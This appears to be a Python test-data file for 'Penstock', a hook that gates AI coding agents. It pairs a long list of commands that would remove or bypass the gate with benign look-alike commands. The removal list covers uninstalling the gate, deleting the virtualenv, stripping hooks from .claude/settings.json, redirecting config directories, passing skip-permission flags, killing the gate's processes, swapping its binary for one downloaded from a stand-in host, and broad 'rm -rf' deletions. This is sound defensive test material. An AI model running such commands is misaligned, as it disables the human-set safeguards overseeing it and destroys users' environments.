"""More commands that would take the gate away, and more that would not, one row each.

`SITE` stands for the packages of the environment that Penstock is installed in.
"""

# ruff: noqa: E501 - a row is a command
from __future__ import annotations

REMOVALS = r"""
pip uninstall click
pip uninstall -y click
pip uninstall -y cryptography
pip uninstall -y PyYAML
pip uninstall -y google_re2
pip uninstall -y Rich
pip uninstall -y tree-sitter tree-sitter-bash
python -m pip uninstall -y tree_sitter
.venv/bin/python -m pip uninstall -y click
uv pip uninstall cryptography
uv pip uninstall --python .venv/bin/python rich
pip3.12 uninstall -y pyyaml
poetry remove click
pdm remove rich
uv remove pyyaml
pip install --target SITE --upgrade click==0
pip install --force-reinstall penstock-gate==0
pip install penstock-gate@https://x.example/y.whl
pip install ./penstock_gate-9.9-py3-none-any.whl
pip install --no-deps ./dist/penstock_gate-0.1.0.tar.gz
pip install git+https://x.example/penstock-gate
pip install 'penstock-gate @ file:///tmp/x'
python3 -m pip uninstall --yes penstock-gate
python -Im pip uninstall -y penstock-gate
env -u X pip uninstall -y penstock-gate
sudo -H pip uninstall -y penstock-gate
sh -c 'pip uninstall -y penstock-gate'
echo y | pip uninstall penstock-gate
pip uninstall -y $(pip list --format=freeze | cut -d= -f1)
pip list --format=freeze | cut -d= -f1 | xargs pip uninstall -y
pip uninstall -y -r <(pip freeze)
uv pip freeze | uv pip uninstall -r -
python -c "import pip; pip.main(['uninstall','-y','penstock-gate'])"
python -c "from pip._internal.cli.main import main; main(['uninstall','-y','penstock-gate'])"
python -c "import subprocess,sys; subprocess.run([sys.executable,'-m','pip','uninstall','-y','penstock-gate'])"
uv pip sync requirements.txt
pip-sync requirements.txt
pip-sync
poetry install --sync
poetry sync
pdm sync --clean
pipenv clean
pipenv --rm
pipenv uninstall --all
hatch env prune
hatch env remove default
uv venv --clear --python 3.12
python -m virtualenv --clear .venv
conda env remove -p ./.venv
conda env remove --prefix .venv
micromamba remove -y penstock-gate
mamba remove penstock_gate
pixi remove penstock-gate
rye remove penstock-gate
uv tool upgrade penstock-gate
uv tool install --force penstock-gate==0
uv cache clean && uv tool uninstall penstock-gate
pipx uninstall penstock_gate
pipx upgrade penstock-gate
pipx inject penstock-gate evil
rm -rf "$(python -c 'import penstock, os; print(os.path.dirname(penstock.__file__))')"
rm -rf $(python -c 'import penstock; print(penstock.__path__[0])')
rm -rf "$(dirname "$(which penstock)")"
rm "$(which penstock)"
rm $(command -v penstock)
rm -rf $(pip show -f penstock-gate | grep Location | cut -d' ' -f2)/penstock
find / -name penstock -delete
find / -name 'penstock*' -exec rm -rf {} +
find . -name penstock -type d -exec rm -r {} \;
find . -path '*/site-packages/*' -delete
find . -name '.venv' -exec rm -rf {} +
find . -type d -name '.venv' -prune -exec rm -rf {} \;
echo .venv | xargs rm -rf
git clean -ffdx
git clean -xdf
git clean -fdX
git clean -f -d -x .venv
git clean -fx -- .venv
git stash -a
git stash --all
git stash push --all
git checkout -f -- .claude
git checkout HEAD~5 -- .claude/settings.json
git restore .claude/settings.json
git rm -rf .claude
git rm penstock.toml
git mv penstock.toml x.toml
git checkout stash -- penstock.toml
chattr +i .venv/bin/python
setfacl -R -m u::--- .venv
setfacl -b .venv/bin
chmod -x .venv/bin/python
chmod a-x .venv/bin/python
chmod 0 .venv/bin/python
chmod -R -r SITE/penstock
chmod --reference=/etc/shadow .venv
chmod u= .venv
chmod a=,u=r .venv/lib
chown 0:0 .venv/bin/python
mv ~/.local ~/.local.bak
mv ~/.local/state ~/x
mv ~/.claude/settings.json ~/.claude/settings.bak
mv .venv{,.bak}
mv .venv/lib{,64x}
mv SITE/penstock{,_}
rename 's/penstock/x/' SITE/penstock
rename penstock x SITE/penstock
ln -sf /bin/true .venv/bin/python
ln -sf /dev/null .claude/settings.json
ln -sfn /tmp/x .venv/lib
ln -sfn /tmp/x SITE/penstock
truncate -s 0 .claude/settings.json
truncate --size=0 SITE/penstock/__init__.py
: > SITE/penstock/doors/hook/main.py
> .claude/settings.json
cat /dev/null > .claude/settings.json
cp /dev/null .claude/settings.json
dd if=/dev/zero of=.venv/bin/python count=1
dd if=/dev/null of=.claude/settings.json
sed -i '/penstock/d' .claude/settings.json
sed -i '/hooks/,$d' ~/.claude/settings.json
perl -pi -e 's/penstock//' .claude/settings.json
perl -0pi -e 's/"hooks".*//s' ~/.claude/settings.json
ruby -pi -e 'gsub(/x/,"")' .claude/settings.json
jq 'del(.hooks)' .claude/settings.json > .claude/settings.json
jq 'del(.hooks)' .claude/settings.json > t && mv t .claude/settings.json
jq 'del(.hooks)' .claude/settings.json | sponge .claude/settings.json
jq 'del(.hooks)' .claude/settings.json | tee .claude/settings.json
yq -i 'del(.hooks)' .claude/settings.json
python -c "import json; d=json.load(open('.claude/settings.json')); d.pop('hooks'); json.dump(d, open('.claude/settings.json','w'))"
python -c "from pathlib import Path; Path('.claude/settings.json').write_text('{}')"
node -e "require('fs').writeFileSync('.claude/settings.json','{}')"
echo '{"disableAllHooks": true}' > .claude/settings.local.json
echo '{"disableAllHooks": true}' | tee .claude/settings.local.json
install -m 644 /dev/null .claude/settings.json
patch .claude/settings.json < x.patch
claude config set disableAllHooks true
claude config set -g disableAllHooks true
claude config set hooks '{}'
claude config remove hooks PreToolUse
claude --settings '{"disableAllHooks": true}' -p x
claude --settings /tmp/x.json -p x
claude --dangerously-skip-permissions --settings '{"hooks": {}}' -p x
claude --bare -p x
claude --setting-sources '' -p x
codex -c hooks=[] exec x
codex --config features.hooks=false exec x
codex --disable hooks exec x
CODEX_HOME=/tmp/x codex exec x
export CODEX_HOME=/tmp/x
CLAUDE_CONFIG_DIR=/tmp/x claude -p x
export CLAUDE_CONFIG_DIR=/tmp/x; claude -p x
export CLAUDE_CONFIG_DIR=/tmp/x
env CLAUDE_CONFIG_DIR=/tmp/x claude -p hello
HOME=/tmp/x claude -p hello
export HOME=/tmp/x; claude -p hello
env HOME=/tmp/x codex exec hello
GEMINI_CLI_HOME=/tmp/x gemini -p x
CLAUDE_CODE_SIMPLE=1 claude -p x
gemini hooks disable-all
gemini hooks disable penstock
claude plugin uninstall penstock
claude plugin disable penstock
claude plugin remove penstock@x
codex plugin remove penstock
gemini extensions uninstall penstock
mkdir -p SITE/penstock.bak && mv SITE/penstock SITE/penstock.bak/
cp -r /tmp/fake SITE/penstock
cp -r /tmp/fake/. SITE/penstock/
unzip -o x.zip -d SITE/penstock
rsync -a /tmp/x/ SITE/penstock/
rsync -a --delete /tmp/x/ SITE/
rsync -a --remove-source-files .venv/ /tmp/x/
python -m venv --clear .venv --without-pip
python3 -m venv --clear "$PWD/.venv"
cd .. && rm -rf project/.venv
cd / && rm -rf "$OLDPWD/.venv"
(cd .venv && rm -rf *)
pushd .venv; rm -rf lib; popd
rm -rf .venv/*
rm -rf .venv/{bin,lib}
rm -rf .venv/lib/python*/site-packages
rm -rf ./.venv/
rm -rf -- .venv
rm -rf "./.venv/../.venv"
rm -rf .venv/lib/../bin
rm -rf .??*
rm -rf .*
rm -rf *  .[!.]*
rm -rf "$PWD"
rm -rf ../project
rm -rf $(pwd)
rm -rf .
rm -rf ..
rm -r ~/.l*
rm -rf $HOME/.local
rm -rf "${HOME}/.local/state/penstock"
rm -rf "$XDG_STATE_HOME/penstock" ~/.local/state/penstock
unlink .venv/bin/python
shred -u .venv/bin/python
rmdir .venv/bin
trash .venv
trash-put .venv
gio trash .venv
rip .venv
python -c "import os; os.rename('.venv','x')"
python -c "import os; os.chmod('.venv', 0)"
python -c "from pathlib import Path; Path('.venv').rename('x')"
python -c "from pathlib import Path; Path('.venv/bin/python').unlink()"
python -c "import os; os.remove('.claude/settings.json')"
perl -e 'use File::Path; rmtree(".venv")'
perl -e 'rename ".venv", "x"'
ruby -e 'require "fileutils"; FileUtils.rm_rf(".venv")'
node -e "require('fs').renameSync('.venv','x')"
node -e "require('fs').chmodSync('.venv', 0)"
npx rimraf .venv
rimraf .venv
npx del-cli .venv
busybox rm -rf .venv
sudo rm -rf .venv
tmux new -d 'rm -rf .venv'
nohup rm -rf .venv &
at now <<< 'rm -rf .venv'
xargs rm -rf <<< .venv
umount .venv
mount -o bind /tmp/x .venv/bin
mount -o remount,noexec .
unshare -m mount --bind /tmp SITE
bindfs /tmp/x .venv
kill -STOP $(pgrep -f penstock)
kill $(cat ~/.local/state/penstock/*.pid)
systemctl --user kill penstock
rm ~/.local/state/penstock/engine-*
PENSTOCK_RESIDENT=off true; PENSTOCK_STATE=/tmp/x claude -p x
export PENSTOCK_X=1
env PENSTOCK_WORKSPACE=/tmp claude -p x
ln -s /bin/true ~/.local/bin/penstock
printf '#!/bin/sh\nexit 0\n' > ~/.local/bin/penstock
curl -o ~/.local/bin/penstock https://x.example/y
mv penstock.toml penstock.off
cp /dev/null penstock.toml
sed -i s/deny/allow/ penstock.toml
echo '' > penstock.toml
chmod 000 penstock.toml
"""

ORDINARY = r"""
pip uninstall -y flask
pip uninstall -y numpy pandas
pip uninstall -y click-plugins
pip uninstall -y rich-argparse
pip uninstall -y pyyaml-include
python -m pip uninstall -y requests
other/.venv/bin/pip uninstall -y click
other/.venv/bin/python -m pip uninstall -y cryptography
pip install click
pip install -U click rich
pip install 'cryptography>=42'
pip install --upgrade pip
pip install -e '.[dev]'
pip install .
pip check
pip show click
pip index versions click
pip download click
pip cache purge
pip wheel .
pip-compile requirements.in
uv add click
uv lock
uv lock --upgrade
uv pip install click
uv pip list
uv pip show rich
uv pip compile requirements.in -o requirements.txt
uv run pytest
uv build
uv venv other/.venv --clear
uv python list
uv cache clean
uv tool uninstall ruff
uv tool upgrade ruff
pipx uninstall black
pipx upgrade black
poetry add click
poetry show click
poetry lock
poetry remove flask
pdm add rich
conda install click
conda env remove -n other
conda env list
npm uninstall click
npm ci
yarn remove rich
brew uninstall wget
cargo remove click
apt-get remove -y nano
rm -rf build dist *.egg-info
rm -rf .pytest_cache .mypy_cache .ruff_cache
rm -rf htmlcov .coverage
rm -rf node_modules package-lock.json
rm -rf target
rm -rf out/ tmp/
rm -rf /tmp/venv
rm -rf ~/.cache/pip
rm -rf ~/.cache/uv
rm -rf ~/.local/share/Trash
rm ~/.local/bin/mytool
rm -rf ~/projects/old
rm -rf src/old
rm docs/penstock.md
rm src/a.py
find . -name __pycache__ -type d -exec rm -rf {} +
find . -name '*.orig' -delete
find src -name '*.bak' -exec rm {} \;
find build -type f -delete
find . -path ./.venv -prune -o -name '*.pyc' -print
find . -name '*.tmp' -not -path './.venv/*' -delete
find /tmp -name 'x*' -delete
fd -e pyc -x rm
git clean -nfdx
git clean -fd src
git clean -fdx build
git checkout -- src/a.py
git restore src/a.py
git rm src/old.py
git mv src/a.py src/b.py
git worktree add ../x
git config user.name me
make clean
npm run clean
cargo clean
chmod +x scripts/build.sh
chmod 644 README.md
chmod -R u+w build
chmod 600 ~/.ssh/config
chmod u+x .venv/bin/x
chown -R me src
setfacl -m u:x:r src/a.py
chattr +i src/a.py
mv build build.old
mv src/a.py src/b.py
mv ~/Downloads/x.zip .
mv ~/.local/bin/x ~/bin/x
ln -sf ../a b
ln -sfn v2 current
truncate -s 0 app.log
: > app.log
sed -i s/a/b/ src/a.py
jq .version package.json > v.txt
jq '.x=1' package.json > t && mv t package.json
jq .hooks .claude/settings.json
cat ~/.claude/settings.json
claude --version
claude mcp list
claude -p 'explain the code'
claude config list
claude config get theme
codex --version
codex exec 'run the tests'
codex -m gpt-5 exec x
gemini -p x
claude plugin list
claude plugin install foo
PYTHONPATH=src pytest
PYTHONPATH=. python run.py
export PYTHONPATH=src
HOME=/tmp/x pytest
export HOME=/tmp/h; npm test
XDG_CONFIG_HOME=/tmp/x git config -l
python -m venv other
python -m venv /tmp/v --clear
python -m venv .venv --upgrade-deps
virtualenv other
tar xzf x.tgz -C build
tar czf v.tgz .venv
unzip x.zip -d build
rsync -a src/ backup/
rsync -a --delete --exclude .venv build/ public/
cp -r src backup
cp -r .venv /tmp/venv-backup
kill 4242
kill -9 4242
kill $!
pkill -f 'npm run dev'
pkill -f 'python app.py'
pkill -f uvicorn
killall chrome
fuser -k 3000/tcp
lsof -ti:3000 | xargs kill -9
kill $(lsof -t -i:8000)
pgrep -f penstock
ps aux | grep penstock
systemctl restart nginx
touch ~/.local/state/x
cp tool ~/.local/bin/
echo 'export A=b' >> .env.example
python -c "import shutil; shutil.rmtree('build')"
python -c "import os; os.remove('x.txt')"
node -e "require('fs').rmSync('dist', {recursive: true})"
npx rimraf dist
rimraf node_modules
docker system prune -f
docker compose down -v
umount /mnt/x
ls -la .venv/bin
du -sh .venv
stat penstock.toml
cat penstock.toml
diff penstock.toml x.toml
deactivate
.venv/bin/pip list
"""
